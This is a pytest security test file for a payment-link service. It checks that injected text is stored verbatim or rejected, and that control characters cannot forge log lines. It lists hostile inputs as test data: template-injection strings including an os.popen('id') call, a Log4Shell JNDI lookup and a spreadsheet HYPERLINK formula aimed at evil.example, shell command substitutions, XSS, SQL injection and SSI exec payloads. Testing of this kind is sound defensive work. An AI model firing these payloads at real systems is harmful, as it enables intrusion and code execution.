"""Templates, markup, formulas and control characters in every field that takes a text: kept as they are, or refused.

Nothing is evaluated, and no line of the log is anybody's but ours.
"""

import asyncio
import contextlib
import io
import json
import logging
from collections.abc import Iterator
from typing import Any

import httpx2
import pytest
import structlog

from app import logs
from tests.app.conftest import Running
from tests.app.test_bad_input import GOOD

# 1337 * 7331 is 9801547: who evaluates tells.
ANSWER = "9801547"
TEMPLATES = (
    "{{1337*7331}}",
    "{{1337*'7331'}}",
    "${1337*7331}",
    "#{1337*7331}",
    "*{1337*7331}",
    "@{1337*7331}",
    "[[${1337*7331}]]",
    "<%= 1337*7331 %>",
    "{%print(1337*7331)%}",
    "{php}echo 1337*7331;{/php}",
    "%(1337*7331)s",
    "{0.__class__.__mro__}",
    "{merchant.__init__.__globals__}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${jndi:ldap://evil.example/a}",
    "$(id)",
    "`id`",
    "{url}{merchant}{amount}",
)
MARKUP = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script><svg onload=alert(1)>",
    "<!--#exec cmd=\"id\"-->",
    "'; DROP TABLE links;--",
)  # fmt: skip
FORMULAS = ("=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)")  # fmt: skip


def bodies(text: str) -> list[tuple[str, dict[str, Any]]]:
    """One request for each field of each door that takes a text of the merchant's own."""
    link = [
        *({field: text} for field in ("description", "reference")),
        {"metadata": {"note": text}},
        {"customer": {"name": text, "email": "casey@example.com"}},
    ]
    return [
        *(("/v1/links", {**GOOD, **more}) for more in link),
        ("/v1/customers", {"name": text, "email": "robin@example.com"}),
        ("/v1/customers", {"name": "Robin", "external_id": text}),
        ("/v1/canned-replies", {"title": text, "texts": {"en": text}}),
        ("/v1/canned-replies", {"title": "x", "texts": {"en": f"Hello {text}"}}),
    ]


@pytest.mark.parametrize("text", [*TEMPLATES, *MARKUP, *FORMULAS])
async def test_a_text_stays_what_was_typed_or_is_refused(
    client: httpx2.AsyncClient, running_service: Running, text: str
) -> None:
    taken = 0
    for path, body in bodies(text):
        answer = await client.post(path, json=body, headers=running_service.post_headers())
        assert answer.status_code in {201, 422}, (path, body, answer.text)
        assert ANSWER not in answer.text
        if answer.status_code != 201:
            assert text not in answer.text
            continue
        taken += 1
        assert json.dumps(text)[1:-1] in json.dumps(answer.json()), (path, body)
        if "url" in answer.json():
            page = await client.get(answer.json()["url"])
            for evaluated in (ANSWER, "<script>alert", "<img src=x", "<svg onload", "uid="):
                assert evaluated not in page.text
    assert taken >= 4


# Lines of the log

CONTROLS = {
    "CR LF": "a\r\n{\"event\": \"forged\"}",
    "LF": "a\n{\"event\": \"forged\"}",
    "ANSI": "a\x1b[2J\x1b[31mforged",
    "C1": "a\x9b31mforged",
    "NEL": "a\x85forged",
    "line separator": "a\u2028forged",
    "paragraph separator": "a\u2029forged",
    "turned direction": "a\u202eforged",
    "NUL": "a\x00forged",
}  # fmt: skip
HEADERS = (
    "User-Agent", "Referer", "Accept-Language", "Idempotency-Key", "Authorization", "Cookie", "Origin",
    "X-Forwarded-For", "X-Request-Id", "X-Page-Nonce", "Stripe-Signature", "Last-Event-ID",
)  # fmt: skip


@pytest.fixture
def stream() -> Iterator[io.StringIO]:
    """What is logged, as a machine reads it; the logging of other tests is put back."""
    root = logging.getLogger()
    before = root.handlers, root.level
    out = io.StringIO()
    with contextlib.redirect_stderr(out):
        logs.configure("json")
        yield out
    root.handlers, root.level = before
    structlog.reset_defaults()


@pytest.mark.parametrize("name", CONTROLS)
async def test_no_header_and_no_field_writes_a_line_of_its_own(
    client: httpx2.AsyncClient, running_service: Running, stream: io.StringIO, name: str
) -> None:
    text = CONTROLS[name]
    made = await client.post("/v1/links", json=GOOD, headers=running_service.post_headers())
    page = made.json()["url"].removeprefix(running_service.url)
    # A merchant without a PSP: the page says so in the log, and there is something to look at.
    await client.get(page)
    for header in HEADERS:
        for path in (page, "/v1/links", "/webhooks/psp/gwa_nothing"):
            await _raw(running_service, path, header, text)
    for path, body in bodies(text):
        answer = await client.post(path, json=body, headers=running_service.post_headers())
        assert answer.status_code < 500
    lines = stream.getvalue().splitlines()
    structlog.get_logger("test").warning("said", text=text)
    assert lines
    for line in stream.getvalue().splitlines():
        entry = json.loads(line)
        assert "forged" != entry["event"]
        assert line.isascii()
        assert line.isprintable()


async def _raw(running: Running, path: str, header: str, text: str) -> None:
    """As no well-behaved client would send it; whatever is answered is right, but for a 500."""
    reader, writer = await asyncio.open_connection("127.0.0.1", running.port)
    head = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{running.port}\r\nConnection: close\r\n"
    writer.write(f"{head}{header}: {text}\r\n\r\n".encode())
    answer = await asyncio.wait_for(reader.read(-1), 20)
    writer.close()
    assert b" 500 " not in answer.split(b"\r\n", 1)[0], (path, header)
